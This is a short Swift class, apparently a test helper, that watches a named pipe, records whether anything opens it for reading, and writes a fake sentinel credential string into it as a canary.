final class FIFOWatch: @unchecked Sendable {
    static let secret = "root:FIFO-SENTINEL-0815"
    let path: String
    private let lock = NSLock()
    private var openedFlag = false
    private let done = DispatchSemaphore(value: 0)

    init(path: String) { self.path = path }

    /// Whether someone opened the FIFO for reading (read it before `release()`).
    var opened: Bool { lock.withLock { openedFlag } }

    func start() {
        let thread = Thread { [self] in
            let fd = open(path, O_WRONLY)
            lock.withLock { openedFlag = true }
            if fd >= 0 {
                let bytes = Array((Self.secret + "\n").utf8)
                _ = bytes.withUnsafeBytes { write(fd, $0.baseAddress, $0.count) }
                close(fd)
            }
            done.signal()
        }
        thread.start()
    }

    /// Opens the FIFO for reading ourselves so the writer thread can finish, and waits for it.
    func release() {
        let fd = open(path, O_RDONLY | O_NONBLOCK)
        _ = done.wait(timeout: .now() + 10)
        if fd >= 0 { close(fd) }
    }
}
